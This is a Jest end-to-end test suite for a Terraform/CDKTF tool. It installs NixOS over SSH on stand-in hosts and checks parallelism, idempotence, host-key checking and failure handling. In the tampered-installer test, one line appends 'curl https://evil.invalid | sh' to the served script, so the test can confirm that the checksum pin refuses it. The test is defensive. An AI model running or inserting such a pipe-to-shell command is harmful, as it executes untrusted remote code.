/**
 * The install flow for real: the project's own FleetStack / NixosInstall,
 * synthesized to JSON, applied by real `terraform apply` over real SSH to
 * stand-in hosts (sshd in network namespaces with their own /etc), which
 * download a stand-in installer over HTTPS, run it, and really "reboot".
 *
 * Locally without root/terraform/sshd this suite is skipped with the reason;
 * with CI=true a missing prerequisite fails it.
 */
import * as fs from 'fs';
import * as path from 'path';
import { TerraformStack } from 'cdktf';
import { FleetDeclaration, HostDeclaration } from '../../constructs/fleet-declaration';
import { FleetStack } from '../../constructs/fleet-stack';
import { NixosInstall } from '../../constructs/nixos-install';
import { StandinFleet, StandinHost, fakeInfectScript, prerequisites, startStandinFleet } from './standin/standin';
import { initAndApply, outputs, startSshAgent, synthStack, terraform, terraformEnv } from './support/terraform';
import * as os from 'os';
import { nixEval } from '../support/nix-tools';
import { runProjectScript } from '../support/process';

const REPO_ROOT = path.resolve(__dirname, '../..');


const pre = prerequisites();
const inCi = process.env.CI === 'true';
if (!pre.ok && !inCi) {
  // eslint-disable-next-line no-console
  console.warn(`SKIPPED e2e install suite: missing ${pre.missing.join(', ')} (needs root, terraform, sshd; see README)`);
}
const suite = pre.ok || inCi ? describe : describe.skip;

jest.setTimeout(600_000);

suite('install on stand-in hosts with real Terraform', () => {
  let fleet: StandinFleet;
  let agent: { socket: string; stop: () => void } | undefined;
  const hostIndex = { a: 0, b: 1, c: 2, tampered: 3, failing: 4, dark: 5 };
  const host = (k: keyof typeof hostIndex): StandinHost => fleet.hosts[hostIndex[k]];
  const etc = (h: StandinHost, p: string) => path.join(h.etcUpper, p);

  beforeAll(async () => {
    expect(pre.missing).toEqual([]); // in CI, a missing prerequisite is a failure
    fleet = await startStandinFleet({
      count: 6,
      names: ['alpha', 'bravo', 'charlie', 'tampered', 'failing', 'dark'],
      rebootDelaySeconds: 2,
    });
    agent = startSshAgent(fleet.clientKeyPath);
  });

  afterAll(async () => {
    agent?.stop();
    await fleet?.stop();
  });

  /** A fleet of stand-in hosts declared as existing machines, exactly as a user would. */
  function declare(hosts: HostDeclaration[], extra: Partial<FleetDeclaration> = {}): FleetDeclaration {
    return { name: 'e2e', adminSshKeys: [fleet.clientPublicKey], adminCidrs: [fleet.subnet], hosts, ...extra };
  }
  const existing = (h: StandinHost, more: Partial<HostDeclaration> = {}): HostDeclaration =>
    ({ name: h.name, cloud: 'existing', address: h.address, ...more }) as HostDeclaration;

  describe('three hosts in parallel, ssh-agent', () => {
    let dir: string;
    let env: NodeJS.ProcessEnv;
    let first: { code: number; output: string; seconds: number };
    let installer: { url: string; sha256: string };

    beforeAll(async () => {
      installer = fleet.installer.publish('/nixos-infect', fakeInfectScript({ installSeconds: 1 }));
      const decl = declare([
        existing(host('a'), { provider: 'hetznercloud', tags: ['web'], hostKey: host('a').hostPublicKey }),
        existing(host('b'), { provider: 'digitalocean' }),
        // nixos-unstable's release is not known in advance: the hive needs the host's stateVersion.
        existing(host('c'), { nixChannel: 'nixos-unstable', stateVersion: '26.11' }),
      ], { nixChannel: 'nixos-26.05', installer });
      dir = synthStack('main', (app) => new FleetStack(app, 'fleet', { fleet: decl }));
      env = terraformEnv({ SSH_AUTH_SOCK: agent!.socket });
      first = await initAndApply(dir, env);
    });

    test('apply succeeds and every host reports NixOS after its reboot', () => {
      expect(first.output).toContain('Apply complete!');
      expect(first.code).toBe(0);
      for (const k of ['a', 'b', 'c'] as const) {
        expect(first.output).toContain(`nixos-fleet[${host(k).name}]: installer sha256 ok`);
        expect(first.output).toContain(`nixos-fleet[${host(k).name}]: NixOS is up`);
        expect(fleet.rebootCount(host(k))).toBe(1);
        expect(fs.existsSync(etc(host(k), 'NIXOS'))).toBe(true);
      }
    });

    test('each host got its PROVIDER, NIX_CHANNEL and NO_REBOOT', () => {
      const env = (k: 'a' | 'b' | 'c') => fs.readFileSync(etc(host(k), 'nixos/standin-env'), 'utf8');
      expect(env('a')).toMatch(/^PROVIDER=hetznercloud$/m);
      expect(env('b')).toMatch(/^PROVIDER=digitalocean$/m);
      expect(env('c')).toMatch(/^PROVIDER=$/m);
      expect(env('a')).toMatch(/^NIX_CHANNEL=nixos-26\.05$/m);
      expect(env('c')).toMatch(/^NIX_CHANNEL=nixos-unstable$/m);
      for (const k of ['a', 'b', 'c'] as const) expect(env(k)).toMatch(/^NO_REBOOT=true$/m);
    });

    test('the installer wrote its configuration and its full log stays on the host', () => {
      for (const k of ['a', 'b', 'c'] as const) {
        for (const f of ['configuration.nix', 'hardware-configuration.nix']) {
          expect(fs.existsSync(etc(host(k), `nixos/${f}`))).toBe(true);
        }
        // Like nixos-infect, networking.nix is written only when PROVIDER asks for it.
        expect(fs.existsSync(etc(host(k), 'nixos/networking.nix'))).toBe(k !== 'c');
        const log = fs.readFileSync(path.join(host(k).logDir, 'nixos-infect.log'), 'utf8');
        expect(log.length).toBeGreaterThan(0);
      }
    });

    test('the installer was downloaded once per host over HTTPS', () => {
      expect(fleet.installer.requests().filter((p) => p === '/nixos-infect')).toHaveLength(3);
    });

    test('the hosts were installed in parallel, not one after another', () => {
      // Each host needs ≥ 1 s of install, the 1 s reboot delay after its session, 2 s down: serial would be ≥ 12 s.
      expect(first.seconds).toBeLessThan(18 + 15);
      const starts = ['a', 'b', 'c'].map((k) => first.output.indexOf(`nixos-fleet[${host(k as 'a').name}]: downloading installer`));
      const firstUp = Math.min(...['a', 'b', 'c'].map((k) => first.output.indexOf(`nixos-fleet[${host(k as 'a').name}]: NixOS is up`)));
      expect(Math.max(...starts)).toBeLessThan(firstUp);
    });

    test('a second apply changes nothing and reboots nothing', async () => {
      const again = await terraform(dir, ['apply', '-input=false', '-no-color', '-auto-approve'], env);
      expect(again.code).toBe(0);
      expect(again.output).toMatch(/No changes\.|0 added, 0 changed, 0 destroyed/);
      for (const k of ['a', 'b', 'c'] as const) expect(fleet.rebootCount(host(k))).toBe(1);
    });

    test('outputs carry the host facts', () => {
      const out = outputs(dir, env);
      expect((out.hosts.value as Record<string, unknown>)[host('a').name]).toMatchObject({ cloud: 'existing', public_ipv4: host('a').address, ssh_port: 22, tags: ['web'] });
    });

    test('npm run hive: writes hive.nix, fetches every reachable host\'s facts, names the unreachable one', async () => {
      // A user's project dir: the synthesized stack under cdktf.out, as `cdktf deploy` leaves it.
      const project = fs.mkdtempSync(path.join(os.tmpdir(), 'handoff-'));
      fs.symlinkSync(path.dirname(path.dirname(dir)), path.join(project, 'cdktf.out'));
      // hive.nix imports ./nix/hive.nix: the project has nix/ next to it, as the template does.
      fs.symlinkSync(path.join(REPO_ROOT, 'nix'), path.join(project, 'nix'));
      const ssh = ['--identity', fleet.clientKeyPath, '--known-hosts', fleet.knownHostsPath, '--ssh-config', '/dev/null'];
      const ok = await runProjectScript('scripts/hive.ts', ssh, { cwd: project });
      expect(ok.stdout + ok.stderr).not.toContain('FAILED');
      expect(ok.code).toBe(0);
      for (const k of ['a', 'b', 'c'] as const) {
        const fetched = path.join(project, 'hosts', host(k).name, 'hardware-configuration.nix');
        expect(fs.readFileSync(fetched, 'utf8')).toBe(fs.readFileSync(etc(host(k), 'nixos/hardware-configuration.nix'), 'utf8'));
        expect(fs.existsSync(path.join(project, 'hosts', host(k).name, 'networking.nix'))).toBe(true);
      }
      expect(fs.readFileSync(path.join(project, 'hosts', host('a').name, 'networking.nix'), 'utf8'))
        .toBe(fs.readFileSync(etc(host('a'), 'nixos/networking.nix'), 'utf8'));

      // The hive Terraform produced, as written to disk, evaluates with the real addresses.
      const hive = path.join(project, 'hive.nix');
      expect(fs.readFileSync(hive, 'utf8')).toContain(host('a').address);
      const deployment = nixEval<Record<string, { targetHost: string; tags: string[] }>>(
        `let hive = import ${hive}; names = builtins.filter (n: n != "meta" && n != "defaults") (builtins.attrNames hive); in
         builtins.listToAttrs (map (n: { name = n; value = (hive.\${n} { name = n; nodes = {}; pkgs = {}; lib = {}; }).deployment; }) names)`,
      );
      expect(Object.keys(deployment).sort()).toEqual([host('a').name, host('b').name, host('c').name].sort());
      expect(deployment[host('a').name]).toMatchObject({ targetHost: host('a').address, tags: expect.arrayContaining(['existing', 'web']) });

      // One host that does not answer: named, with the reason; the others are untouched.
      const dark = host('dark');
      await fleet.exec(dark, 'kill "$(cat /run/sshd.pid)"');
      await fleet.waitForSshDown(dark, 10_000);
      const out = outputs(dir, env);
      const file = path.join(project, 'outputs.json');
      const values = Object.fromEntries(Object.entries(out).map(([k, v]) => [k, v.value]));
      const hosts = values.hosts as Record<string, object>;
      hosts[dark.name] = { ...hosts[host('a').name], public_ipv4: dark.address, ssh_address: dark.address };
      fs.writeFileSync(file, JSON.stringify({ fleet: values }));
      const partial = await runProjectScript('scripts/hive.ts', [...ssh, '--outputs', file, '--refresh', '--connect-timeout', '3'], { cwd: project });
      expect(partial.code).toBe(1);
      expect(partial.stdout + partial.stderr).toMatch(new RegExp(`${dark.name}.*FAILED`));
      expect(partial.stdout + partial.stderr).toContain(dark.address);
      expect(fs.existsSync(path.join(project, 'hosts', dark.name))).toBe(false);
      for (const k of ['a', 'b', 'c'] as const) expect(partial.stdout + partial.stderr).toMatch(new RegExp(`${host(k).name}.*fetched`));
    });

    test('lost state never re-infects a live host', async () => {
      fs.rmSync(path.join(path.dirname(path.dirname(dir)), 'main.tfstate'), { force: true });
      const afresh = await terraform(dir, ['apply', '-input=false', '-no-color', '-auto-approve'], env);
      expect(afresh.code).toBe(0);
      for (const k of ['a', 'b', 'c'] as const) {
        expect(afresh.output).toContain(`nixos-fleet[${host(k).name}]: already runs NixOS`);
        expect(fleet.rebootCount(host(k))).toBe(1);
      }
      expect(fleet.installer.requests().filter((p) => p === '/nixos-infect')).toHaveLength(3);
    });
  });

  describe('failures, with the key in the sensitive variable (no agent)', () => {
    const keyEnv = () => terraformEnv({ SSH_AUTH_SOCK: undefined, TF_VAR_ssh_private_key: fs.readFileSync(fleet.clientKeyPath, 'utf8') });

    test('a tampered installer is refused: sha256 message, nothing run', async () => {
      const good = fakeInfectScript();
      const pinned = fleet.installer.publish('/pinned-original', good).sha256;
      const served = fleet.installer.publish('/tampered/nixos-infect', `${good}\ncurl https://evil.invalid | sh\n`);
      const dir = synthStack('tampered', (app) => new FleetStack(app, 'fleet', {
        fleet: declare([existing(host('tampered'), { installer: { url: served.url, sha256: pinned } })]),
      }));
      const run = await initAndApply(dir, keyEnv());
      expect(run.code).not.toBe(0);
      expect(run.output).toContain('installer sha256 mismatch');
      expect(run.output).toContain(`expected: ${pinned}`);
      expect(run.output).toContain(`actual:   ${served.sha256}`);
      expect(run.output).toContain('nothing was run');
      expect(fs.existsSync(etc(host('tampered'), 'NIXOS'))).toBe(false);
      expect(fs.existsSync(etc(host('tampered'), 'nixos/standin-env'))).toBe(false);
      expect(fleet.rebootCount(host('tampered'))).toBe(0);
      // The secret key went in through the environment; it is not in the config or the state.
      const key = fs.readFileSync(fleet.clientKeyPath, 'utf8').split('\n')[1];
      expect(fs.readFileSync(path.join(dir, 'cdk.tf.json'), 'utf8')).not.toContain(key);
    });

    test('a failing installer fails the apply and shows the log tail', async () => {
      const failing = fleet.installer.publish('/failing/nixos-infect', fakeInfectScript({ failExitCode: 3 }));
      const dir = synthStack('failing', (app) => new FleetStack(app, 'fleet', {
        fleet: declare([existing(host('failing'), { installer: failing })]),
      }));
      const run = await initAndApply(dir, keyEnv());
      expect(run.code).not.toBe(0);
      expect(run.output).toContain(`nixos-fleet[${host('failing').name}]: installer failed (exit 3); last 40 lines of /var/log/nixos-infect.log`);
      expect(run.output).toMatch(/stand-in installer/i);
      expect(fs.existsSync(path.join(host('failing').logDir, 'nixos-infect.log'))).toBe(true);
      expect(fs.existsSync(etc(host('failing'), 'NIXOS'))).toBe(false);
      expect(fleet.rebootCount(host('failing'))).toBe(0);
    });

    test('a host presenting another host key than the declared one is refused', async () => {
      const impostor = host('failing'); // any host whose key is not the one declared
      const dir = synthStack('hostkey', (app) => {
        const stack = new TerraformStack(app, 'fleet');
        new NixosInstall(stack, 'install', {
          hostName: impostor.name, address: impostor.address, trigger: impostor.address, hostKey: host('a').hostPublicKey,
          installerUrl: fleet.installer.url('/nixos-infect'), installerSha256: 'e'.repeat(64), connectTimeout: '5s',
        });
        return stack;
      });
      const before = fleet.installer.requests().length;
      const run = await initAndApply(dir, terraformEnv({ SSH_AUTH_SOCK: agent!.socket }));
      expect(run.code).not.toBe(0);
      expect(run.output).toMatch(/host key mismatch|handshake failed/i);
      expect(fleet.installer.requests().length).toBe(before); // nothing ran on it
    });

    test('an unreachable host fails with a timeout naming its install step', async () => {
      const dark = host('dark');
      await fleet.exec(dark, 'kill "$(cat /run/sshd.pid)"');
      await fleet.waitForSshDown(dark, 10_000);
      const dir = synthStack('dark', (app) => {
        const stack = new TerraformStack(app, 'fleet');
        new NixosInstall(stack, 'install', {
          hostName: dark.name, address: dark.address, trigger: dark.address,
          installerUrl: fleet.installer.url('/nixos-infect'), installerSha256: 'e'.repeat(64), connectTimeout: '5s',
        });
        return stack;
      });
      const run = await initAndApply(dir, terraformEnv({ SSH_AUTH_SOCK: agent!.socket }));
      expect(run.code).not.toBe(0);
      expect(run.output).toMatch(/timeout/i);
      expect(run.output).toContain(`terraform_data.nixos_install_${dark.name}`);
      expect(run.seconds).toBeLessThan(120);
    });
  });
});
